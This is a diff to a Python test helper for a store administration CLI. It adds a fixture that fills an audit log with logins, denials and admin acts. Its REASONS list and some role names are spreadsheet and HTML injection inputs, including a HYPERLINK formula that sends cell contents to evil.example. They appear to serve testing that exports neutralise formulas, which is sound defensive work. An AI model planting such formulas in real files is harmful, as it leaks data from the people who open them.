@@ -71,3 +71,87 @@ class Store:
         self.ok("config", "set", "login_as_customer/general/enabled", "yes")
         self.ok("config", "set", "web/secure/base_url", "https://shop.example/")
         return self
+
+    def eventful(self):
+        """A log in which nearly every kind of act succeeds and fails once, by people who type anything."""
+        self.ready()
+        storefront = self.json("storefront", "add", "shop", "--website", "base")["token"]
+        audience = ("--audience", "https://shop.example")
+        for whom, reason in [("1", "Zoë cannot pay ☹\nsince \"today\", she says"), ("2", REASONS[0])]:
+            login = self.json("login", whom, "--ticket", "ZD-4711", "--reason", reason)
+            self.ok("redeem", login["url"], *audience, LAC_TOKEN=storefront)
+            self.run("redeem", login["url"], *audience, LAC_TOKEN=storefront)
+            self.ok("session", "end", login["session_id"])
+        self.ok("login", "1")
+        self.ok("session", "end", "--all")
+        for reason in REASONS:
+            self.run("login", "nobody@example.com", "--reason", reason)
+        for line in ACTS.splitlines():
+            self.ok(*line.split())
+        for name in ["=cmd", "@SUM(A1)", "<b>&amp;</b>"]:
+            self.ok("role", "create", name)
+            self.ok("user", "create", name, "--role", name, "--full-name", name)
+            token = self.json("user", "token", "create", name)["token"]
+            for line in READS.splitlines():
+                assert self.run(*line.split(), LAC_TOKEN=token).returncode == 4, line
+        return self
+
+
+# What somebody may type as a reason, much of which a spreadsheet would run.
+REASONS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")", "=1+1", "+49 170 1234567", "-1", "-2+3", "@SUM(A1)",
+           "＝1+1", "a, b; c\td", "0012", "1e5", "2026-10-05", "https://evil.example/", "😀 שלום ß", "'=1",
+           "_x000D_", "TRUE", "line\nline\n\nline", "x" * 2000]
+
+ACTS = """\
+consent revoke 2 --reason phone
+consent grant 2
+config set lac/session/max_duration 600
+config unset lac/session/max_duration
+stores add-website eu --name Europe
+stores add-group eu_main --website eu --name Main
+stores add-view eu_en --group eu_main --name EN
+stores edit store-view:eu_en --name English
+stores remove store-view:eu_en --yes
+role create Clerks
+role access Clerks custom
+role allow Clerks login_button
+role deny Clerks login_button
+role scope Clerks website:base
+role create Others
+user create bea --role Clerks
+user assign bea Others
+user edit bea --full-name Bea
+user token create bea
+user token revoke bea --all --yes
+user disable bea --yes
+user enable bea
+user delete bea --yes
+role delete Others --yes
+customer add --email gina@example.com --website base
+customer edit gina@example.com --first-name =Gina
+customer remove gina@example.com --yes
+storefront add other --website base
+storefront revoke other --yes"""
+
+# A denied attempt of every group.
+READS = """\
+login 1 --reason =1+1
+session list
+consent show 1
+consent grant 1
+config list
+config set lac/session/max_duration 60
+role list
+role create x
+user list
+user create x --role x
+stores list
+stores add-website x --name x
+customer list
+customer add --email x@example.com --website base
+document show --order 1
+import customers -
+log list
+log recover --yes
+storefront list
+storefront add x --website base"""
